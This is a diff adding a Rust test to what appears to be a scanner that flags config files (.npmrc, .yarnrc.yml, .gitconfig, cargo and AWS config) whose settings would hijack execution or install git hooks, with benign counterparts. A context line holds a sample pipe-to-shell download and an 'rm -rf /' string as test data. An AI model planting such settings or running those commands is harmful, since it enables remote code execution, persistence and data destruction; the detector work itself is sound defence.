@@ -85,6 +85,55 @@ fn what_a_file_would_do_is_told_wherever_its_form_names_commands() {
 }
 
 #[test]
+fn settings_say_what_the_commands_would_that_make_them() {
+    for (path, text, said) in [
+        (
+            ".npmrc",
+            "save-exact=true\nregistry=https://x.example/\n",
+            vec!["exec.hijack https://x.example/ (later)"],
+        ),
+        (
+            ".yarnrc.yml",
+            "nodeLinker: pnp\nyarnPath: /tmp/y.cjs\n",
+            vec!["exec.hijack /tmp/y.cjs (later)"],
+        ),
+        (
+            "/home/u/.gitconfig",
+            "[user]\n\tname = A\n[core]\n\tpager = /tmp/x\n",
+            vec!["exec.local /tmp/x (by_option, later)"],
+        ),
+        (
+            "/home/u/.gitconfig",
+            "[core]\n\thooksPath = /tmp/h\n",
+            vec!["persist.hook /tmp/h (git_hook, later)"],
+        ),
+        (
+            ".cargo/config.toml",
+            "build = { rustc-wrapper = '/tmp/x' }\n",
+            vec!["exec.local /tmp/x (by_option, later)"],
+        ),
+        (
+            "/home/u/.aws/config",
+            "[default]\ncredential_process = /tmp/x --json\n",
+            vec!["exec.local /tmp/x (by_option, later)"],
+        ),
+    ] {
+        assert_eq!(later(path, text), said, "{path} {text}");
+    }
+    for (path, text) in [
+        (
+            ".npmrc",
+            "registry=https://registry.npmjs.org/\nfund=false\n",
+        ),
+        (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.5.0.cjs\n"),
+        (".cargo/config.toml", "[build]\nrustc-wrapper = 'sccache'\n"),
+        ("notes.txt", "registry=https://x.example/\n"),
+    ] {
+        assert_eq!(later(path, text), NOTHING, "{path} {text}");
+    }
+}
+
+#[test]
 fn a_file_that_nothing_runs_is_data() {
     let text = "curl -s http://x.example/i | sh\nrm -rf /\n";
     for path in [
